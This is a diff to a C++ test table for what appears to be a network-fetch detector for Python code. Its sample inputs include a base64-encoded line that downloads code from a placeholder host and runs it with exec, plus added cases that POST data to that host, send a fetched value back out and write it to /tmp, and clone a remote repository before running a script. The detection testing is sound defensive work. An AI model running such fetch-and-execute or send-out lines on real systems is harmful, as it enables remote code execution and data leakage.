@@ -87,6 +87,14 @@ TEST(Fetches, OfPython) {
        "aW1wb3J0IHJlcXVlc3RzCmV4ZWMocmVxdWVzdHMuZ2V0KCdodHRwOi8vaC5leGFtcGxlLmludmFsaWQv"
        "YScpLnRleHQp'))\n",
        "requests.get http://h.example.invalid/a -> interpreter:exec run exec"},
+      {"import urllib.request as u\nu.urlopen(u.Request('http://h.example.invalid/p', data=b'x'))\n", ""},
+      {"import requests\nip = requests.get('http://h.example.invalid/ip').text\n"
+       "r = requests.post('http://h.example.invalid/p', data=ip)\nopen('/tmp/ip', 'w').write('at ' + ip)\n",
+       "requests.get http://h.example.invalid/ip -> file:/tmp/ip"},
+      {"import sys, subprocess\nsubprocess.run(['git', 'clone', 'https://h.example.invalid/r', "
+       "sys.argv[1]])\n"
+       "subprocess.run(['python3', sys.argv[2]])\n",
+       "git clone https://h.example.invalid/r -> file:\xEF\xBF\xBC"},
       {"print('http://h.example.invalid/a')\n", ""},
   };
   for (const FetchCase& row : kCases)
